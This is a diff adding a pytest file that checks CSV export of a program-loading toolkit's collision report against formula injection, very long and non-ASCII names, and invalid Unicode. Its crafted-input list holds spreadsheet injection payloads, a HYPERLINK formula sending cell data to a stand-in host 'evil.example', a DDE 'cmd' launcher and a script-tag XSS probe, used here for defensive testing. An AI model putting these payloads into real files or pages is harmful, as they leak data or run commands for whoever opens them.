@@ -1,0 +1,117 @@
+"""CSV safety end to end: names crafted as spreadsheet formulas, very long names and
+non-ASCII names, taken from a real program's manifest, through a real load, the collision
+report, CSV export and back.
+
+Method names must be plain identifiers (they name directories), so the crafted text goes
+where a program controls free text: the program name, and constant names/FQNs (a program
+whose constant names do not match its .so fails to load, and the report still lists every
+constant with the failure as the reason, so the crafted names reach the CSV).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+import pytest
+
+from test_errors import SAMPLE, clone, edit_manifest
+from toolkit.errors import ManifestError
+from toolkit.loader import load_program
+from toolkit.program import open_program
+from toolkit.report import FORMULA_TRIGGERS, REPORT_COLUMNS, collision_report, read_report, to_csv
+
+CRAFTED = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "a,b;\"c\"\r\nd",  # separators, quotes and a line break inside one cell
+    "<script>alert(1)</script>",
+    "x" * 10_000,  # very long
+    "Gewichte.Ü.自注意力.веса.🙂",  # non-ASCII, beyond the BMP too
+    "\u202e=1+1",  # right-to-left override in front of a formula
+    "",
+]
+
+
+@pytest.fixture(scope="module")
+def base(built_sample):
+    return built_sample(SAMPLE)
+
+
+def _check_csv(text: str, n_rows: int) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(text)))
+    assert tuple(rows[0]) == REPORT_COLUMNS
+    assert len(rows) == n_rows + 1, "a crafted cell split or merged rows"
+    for row in rows[1:]:
+        assert len(row) == len(REPORT_COLUMNS)
+        for col, cell in zip(REPORT_COLUMNS, row):
+            assert not cell.startswith(FORMULA_TRIGGERS), (col, cell[:40])
+    return rows
+
+
+@pytest.mark.parametrize("crafted", CRAFTED, ids=range(len(CRAFTED)))
+def test_crafted_program_name_through_a_real_load(base, tmp_path, crafted):
+    root = clone(base, tmp_path / "p")
+    edit_manifest(root, lambda d: d.update(name=crafted))
+    s = load_program(root, "fingerprint")
+    assert s.status == "loaded"
+    report = collision_report(s)
+    assert set(report.frame["program"]) == {crafted}
+    path = tmp_path / "report.csv"
+    to_csv(report, path)
+    text = path.read_text(encoding="utf-8")
+    _check_csv(text, len(report.frame))
+    back = read_report(path)
+    pd.testing.assert_frame_equal(back.frame, report.frame)
+    html = report._repr_html_()
+    assert "<script>" not in html
+
+
+def test_crafted_constant_names_through_a_failed_load(base, tmp_path):
+    """Crafted internal names and FQNs for every constant: the load fails (they are not the
+    .so's), and the report carries them and the error text that quotes them."""
+    root = clone(base, tmp_path / "p")
+    names = iter(c for c in CRAFTED if c)
+
+    def craft(d):
+        for m in d["methods"]:
+            for c in m["constants"]:
+                c["name"], c["fqn"] = next(names), next(names)
+    edit_manifest(root, craft)
+    program = open_program(root)
+    crafted = {c.name for m in program.methods for c in m.constants} | {c.fqn for m in program.methods for c in m.constants}
+    s = load_program(program, "decline-on-mismatch")
+    assert s.status == "failed" and s.failed_method == "prefill"
+    report = collision_report(s)
+    assert set(report.frame["name"]) | set(report.frame["fqn"]) == crafted
+    buf = io.StringIO()
+    to_csv(report, buf)
+    _check_csv(buf.getvalue(), len(report.frame))
+    back = read_report(io.StringIO(buf.getvalue()))
+    pd.testing.assert_frame_equal(back.frame, report.frame)
+
+
+@pytest.mark.parametrize("where", ["name", "constant-fqn", "description"])
+def test_unencodable_text_is_refused_when_the_manifest_is_read(base, tmp_path, where):
+    """A lone surrogate (valid in JSON escapes, not in UTF-8) could never be written to a
+    CSV or HTML file: the manifest is refused instead of the export failing later."""
+    root = clone(base, tmp_path / "p")
+    bad = "ok\ud800"
+
+    def craft(d):
+        if where == "name":
+            d["name"] = bad
+        elif where == "description":
+            d["description"] = bad
+        else:
+            d["methods"][0]["constants"][0]["fqn"] = bad
+    edit_manifest(root, craft)
+    with pytest.raises(ManifestError, match="not valid Unicode"):
+        open_program(root)
